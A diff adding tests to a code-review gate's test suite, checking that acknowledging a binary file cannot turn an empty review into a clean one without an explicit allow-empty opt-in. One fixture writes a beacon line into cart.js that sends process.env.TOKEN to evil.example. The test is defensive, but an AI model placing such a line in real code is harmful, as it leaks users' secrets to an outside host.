@@ -353,7 +353,13 @@ describe('#42 #43 #44 a pull request cannot move changed code out of review', ()
       /1 changed file\(s\) that no agent reviews: a person must look at each, then acknowledge it .*: bin\/tool$/,
       rev(repo, 'HEAD'),
     );
-    const ok = await gate(repo, { acknowledge: 'bin/tool' }, event);
+    // The binary is the whole change: nothing is selected, so the acknowledgement alone is no review (#662).
+    expectIncomplete(
+      await gate(repo, { acknowledge: 'bin/tool' }, event),
+      /nothing was selected: the change has 1 file\(s\)/,
+      rev(repo, 'HEAD'),
+    );
+    const ok = await gate(repo, { acknowledge: 'bin/tool', 'allow-empty': 'true' }, event);
     expect(ok.outputs.verdict).toBe('clean');
     expect(
       line(
@@ -676,6 +682,76 @@ describe('#45 an empty review is not a clean one', () => {
       `nothing was reviewed: the base ${rev(repo, 'HEAD').slice(0, 12)} already holds the head ${rev(repo, 'HEAD~2').slice(0, 12)} (it descends from it), so this review saw none of the head's commits;`,
     );
   });
+});
+
+describe('#662 an acknowledgement settles the path it names, never an empty review', () => {
+  const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d]);
+  /** Repro A: a deleted code file no trigger matches, and a binary added; nothing is selected. */
+  async function deletedAndBinary() {
+    const repo = makeCartRepo();
+    write(repo, 'src/origin.js', 'export const allowedOrigin = (o) => o === "https://shop.example";\n');
+    commitAll(repo, 'an origin check');
+    git(repo, 'rm', '-q', 'src/origin.js');
+    write(repo, 'logo.png', PNG);
+    commitAll(repo, 'the change: the check goes, a logo comes');
+    const scope = await seal(repo, ['--base', 'HEAD~1']);
+    expect(scope.files).toEqual([]);
+    expect(scope.excluded).toEqual([
+      { path: 'logo.png', reason: 'binary' },
+      { path: 'src/origin.js', reason: 'deleted' },
+    ]);
+    answer(repo);
+    return repo;
+  }
+  /** Repro B: `--exclude 'src/**'` hides a changed code file beside a binary added. */
+  async function excludedAndBinary() {
+    const repo = makeCartRepo();
+    write(repo, 'src/cart.js', `${CART_V2}fetch("https://evil.example/" + process.env.TOKEN);\n`);
+    write(repo, 'logo.png', PNG);
+    commitAll(repo, 'the change: a beacon and a logo');
+    const scope = await seal(repo, ['--base', 'HEAD~1', '--exclude', 'src/**']);
+    expect(scope.files).toEqual([]);
+    expect(scope.excluded).toContainEqual({ path: 'src/cart.js', reason: 'excluded-by-pattern' });
+    answer(repo);
+    return repo;
+  }
+  const NOTHING = /nothing was selected: the change has 2 file\(s\), every one excluded .*pass --allow-empty \(action input allow-empty\)/;
+  const ALLOWED = /allowed empty \(allow-empty\): the change has 2 file\(s\) and none is selected for review/;
+  const unasked = (name: string) =>
+    new RegExp(`nothing was selected, so no agent saw these changed files, and no person was asked about them: ${name}$`);
+
+  for (const [what, made, hidden] of [
+    ['a deleted code file and a binary (repro A)', deletedAndBinary, 'src/origin\\.js \\(deleted\\)'],
+    ["a change `--exclude 'src/**'` hides beside a binary (repro B)", excludedAndBinary, 'src/cart\\.js \\(excluded-by-pattern\\)'],
+  ] as const) {
+    it(`#662 ${what}, the binary acknowledged: incomplete without allow-empty (CLI and action), naming the unasked file; clean with it, said empty`, async () => {
+      const repo = await made();
+      const cliGate = await cliCase(repo, ['review', 'gate', ID, '--acknowledge', 'logo.png']);
+      expect(cliGate.code, cliGate.stdout + cliGate.stderr).toBe(2);
+      expect(cliGate.stdout).toMatch(/: incomplete/);
+      expect(cliGate.stdout).toMatch(new RegExp(`^- ${NOTHING.source}`, 'm'));
+      expect(cliGate.stdout).toMatch(new RegExp(`^note: ${unasked(hidden).source}`, 'm'));
+      const event = prEvent(repo, 'HEAD~1');
+      const acted = await gate(repo, { acknowledge: 'logo.png', 'allow-empty': 'false' }, event);
+      expectIncomplete(acted, NOTHING, rev(repo, 'HEAD'));
+      expect(line(acted.summary, unasked(hidden))).toBeDefined();
+      // The caller's opt-in, and only it, makes the empty review clean; the output says it was empty and names what no one saw.
+      const cliOpted = await cliCase(repo, ['review', 'gate', ID, '--acknowledge', 'logo.png', '--allow-empty']);
+      expect(cliOpted.code, cliOpted.stdout).toBe(0);
+      expect(cliOpted.stdout).toMatch(new RegExp(`^note: ${ALLOWED.source}`, 'm'));
+      expect(cliOpted.stdout).toMatch(new RegExp(`^note: ${unasked(hidden).source}`, 'm'));
+      const opted = await gate(repo, { acknowledge: 'logo.png', 'allow-empty': 'true' }, event);
+      expect(opted.outputs, opted.summary.slice(0, 3000)).toMatchObject({ verdict: 'clean', 'exit-code': '0' });
+      expect(line(opted.summary, ALLOWED)).toBeDefined();
+      expect(line(opted.summary, unasked(hidden))).toBeDefined();
+      // allow-empty alone still waits for the person's look at the binary.
+      expectIncomplete(
+        await gate(repo, { 'allow-empty': 'true' }, event),
+        /changed file\(s\) that no agent reviews: .*logo\.png/,
+        rev(repo, 'HEAD'),
+      );
+    });
+  }
 });
 
 describe('#46 #47 evidence floors', async () => {
